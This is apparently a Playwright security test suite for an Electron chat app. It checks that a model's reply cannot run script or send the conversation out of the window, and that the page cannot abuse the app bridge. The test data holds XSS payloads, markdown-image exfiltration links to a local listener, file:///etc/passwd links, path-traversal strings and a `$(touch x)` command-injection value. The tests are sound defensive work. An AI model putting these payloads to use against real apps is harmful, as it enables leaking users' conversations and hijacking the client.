import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect } from "@playwright/test";
import { startStandIn } from "../../src-main/demo/stand-in";
import { test } from "../desktop/desktop";

/** What a model may be talked into saying, to get a conversation out of the window; `out` is where it would go. */
const answer = (out: string) => `Before.

![leak](${out}/markdown-image?words=secret)
![leak][ref]

[ref]: ${out}/reference-image

<img src="${out}/html-image" onerror="window.sprung = 'onerror'">
<iframe src="${out}/frame"></iframe><object data="${out}/object"></object><embed src="${out}/embed">
<link rel="stylesheet" href="${out}/sheet"><link rel="prefetch" href="${out}/prefetch">
<style>body { background: url(${out}/style) }</style>
<script>window.sprung = "script"; fetch("${out}/fetch")</script>
<svg onload="window.sprung = 'svg'"><image href="${out}/svg" /></svg>
<form action="${out}/form"><input autofocus onfocus="window.sprung = 'focus'"></form>
<meta http-equiv="refresh" content="0; url=${out}/refresh"><base href="${out}/">

[javascript](javascript:window.sprung='link') [data](data:text/html,<script>1</script>) [file](file:///etc/passwd)
[web](${out}/link) <${out}/auto> ${out}/bare www.example.com/www someone@example.com
[protocol](//127.0.0.1/protocol) [tab](java\tscript:window.sprung='tab') [entity](&#106;avascript:window.sprung='entity')
[![inner](${out}/inner-image)](${out}/outer-link) ![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

$\\href{javascript:window.sprung='math'}{x} \\includegraphics{${out}/math} \\url{${out}/math-url}$
$$\\htmlData{x=1}{\\unicode{<img src=${out}/math-html>}}$$

| ![cell](${out}/cell) | <img src="${out}/cell-html"> |
| --- | --- |
| a[^1] | b |

[^1]: ![note](${out}/note)

\`\`\`mermaid
graph TD; A["<img src='${out}/mermaid' onerror='window.sprung=1'>"]; click A "javascript:window.sprung='mermaid'"
\`\`\`

<svg><style>@import url("${out}/svg-style")</style><use href="${out}/use#x"/><foreignObject><img src="${out}/foreign"></foreignObject></svg>
<video src="${out}/video" poster="${out}/poster" autoplay></video><audio src="${out}/audio" autoplay></audio>
<a ping="${out}/ping" href="${out}/pinged" target="_blank">x</a><math href="javascript:window.sprung='mathml'">x</math>

\`\`\`html
<script>window.sprung = "code"</script>
\`\`\`

After.`;

test("nothing that a model says runs in the window, or takes its words anywhere", async ({ desktop }) => {
  const visits: string[] = [];
  const outside = createServer((request, response) => {
    visits.push(request.url ?? "");
    response.end();
  }).listen(0, "127.0.0.1");
  await new Promise((resolve) => outside.once("listening", resolve));
  const out = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  const upstream = await startStandIn({
    respond: () => ({ steps: [{ thinking: answer(out) }, { text: answer(out) }] }),
  });
  try {
    desktop.logIn();
    const { page } = await desktop.launch({ env: { ANTHROPIC_BASE_URL: upstream.url } });
    await page.getByRole("textbox", { name: "Message" }).fill(answer(out));
    await page.getByRole("button", { name: "Send" }).click();
    const log = page.getByRole("log", { name: "Conversation" });
    // The question says the same, and so does the conversation's name.
    await expect.poll(async () => (await log.innerText()).split("After.").length).toBeGreaterThanOrEqual(3);
    await expect(page.getByRole("button", { name: "Send" })).toBeVisible();

    const address = page.url();
    const links = () => log.getByRole("link").evaluateAll((all) => all.map((link) => link.getAttribute("href")));
    expect((await links()).length).toBeGreaterThan(2);
    for (const href of await links()) expect(href).toMatch(/^(https?:|mailto:|#)/);
    const seen = await log.evaluate((node) => ({
      sprung: (window as { sprung?: string }).sprung,
      made: [...node.querySelectorAll("script, iframe, object, embed, link, style, form, meta, base, svg image")]
        .length,
      pictures: [...node.querySelectorAll("img")].map(({ src }) => src).filter((src) => !src.startsWith("data:")),
    }));
    expect(seen).toEqual({ sprung: undefined, made: 0, pictures: [] });
    const allowed = await page.evaluate(async () => ({
      notifications: await Notification.requestPermission(),
      camera: await navigator.mediaDevices?.getUserMedia({ video: true }).then(
        () => true,
        () => false,
      ),
      worker: await navigator.serviceWorker?.register("/x.js").then(
        () => true,
        () => false,
      ),
    }));
    expect(allowed).toEqual({ notifications: "denied", camera: false, worker: false });
    expect(page.url()).toBe(address);
    expect(visits).toEqual([]);
  } finally {
    await upstream.close();
    outside.close();
  }
});

test("the page cannot reach more of the app than it is given", async ({ desktop }) => {
  const { page } = await desktop.launch({ args: ["--demo"] });
  const seen = await page.evaluate(async () => {
    const { brainstem } = window as unknown as {
      brainstem: {
        request(name: unknown, input?: unknown): Promise<{ ok: boolean }>;
        on(name: unknown, f: unknown): unknown;
      };
    };
    const ok = async (name: unknown, input?: unknown) =>
      (await brainstem.request(name, input).catch(() => ({ ok: false }))).ok;
    const inside = document.createElement("iframe");
    inside.srcdoc = "<p>x</p>";
    document.body.append(inside);
    const view = document.createElement("webview");
    view.setAttribute("src", "https://example.com/");
    document.body.append(view);
    const loads = (tag: "script" | "img", src: string) =>
      new Promise<boolean>((resolve) => {
        const element = document.createElement(tag);
        element.onload = () => resolve(true);
        element.onerror = () => resolve(false);
        element.src = src;
        document.body.append(element);
      });
    const icons = ["..%2f..%2fresources%2ficons%2f512x512.png", "%2e%2e/%2e%2e/resources/icons/512x512.png"];
    const result = {
      requests: [
        await ok("no.such"),
        await ok("constructor"),
        await ok("chat.stop", { conversationId: "../../x" }),
        await ok("settings.update", { endpoint: { port: "x" } }),
        await ok("settings.update", { __proto__: null, toString: { x: 1 } }),
        await ok("link.open", "file:///etc/passwd"),
        await ok("link.open", "javascript:alert(1)"),
        await ok("endpoint.copySnippet", { name: "curl", model: "$(touch x)" }),
      ],
      frameHasBridge: "brainstem" in (inside.contentWindow ?? {}),
      webview: typeof (view as { getURL?: unknown }).getURL,
      opened: window.open("app://brainstem/") !== null,
      files: await Promise.all(icons.map((icon) => loads("img", `app://brainstem/${icon}`))),
      file: await loads("img", "file:///usr/share/pixmaps/x.png"),
      inline: await new Promise<boolean>((resolve) => {
        const script = document.createElement("script");
        script.textContent = "window.ranInline = true";
        document.body.append(script);
        resolve("ranInline" in window);
      }),
      evaluated: (() => {
        try {
          return Boolean(new Function("return true")());
        } catch {
          return false;
        }
      })(),
      socket: await new Promise<boolean>((resolve) => {
        try {
          const socket = new WebSocket("ws://127.0.0.1:9/");
          socket.onopen = () => resolve(true);
          socket.onerror = () => resolve(false);
        } catch {
          resolve(false);
        }
      }),
    };
    for (const each of [inside, view]) each.remove();
    return result;
  });
  expect(seen).toEqual({
    requests: Array(8).fill(false),
    frameHasBridge: false,
    webview: "undefined",
    opened: false,
    files: [false, false],
    file: false,
    inline: false,
    evaluated: false,
    socket: false,
  });
});

test("the window is locked as Electron's checklist asks", async ({ desktop }) => {
  const { electron, page } = await desktop.launch({ args: ["--demo"] });
  const preferences = await electron.evaluate(({ webContents }) => {
    const [contents] = webContents.getAllWebContents().filter((each) => each.getType() === "window");
    return (contents as unknown as { getLastWebPreferences(): Record<string, unknown> }).getLastWebPreferences();
  });
  expect(preferences).toMatchObject({
    contextIsolation: true,
    nodeIntegration: false,
    sandbox: true,
    webviewTag: false,
  });
  // What must not be set at all, or not to this.
  expect(preferences["webSecurity"]).not.toBe(false);
  for (const name of ["allowRunningInsecureContent", "experimentalFeatures", "nodeIntegrationInSubFrames"])
    expect([name, preferences[name] ?? false]).toEqual([name, false]);
  expect(preferences["enableBlinkFeatures"] ?? "").toBe("");
  expect(page.url()).toMatch(/^app:\/\/brainstem\//);
});
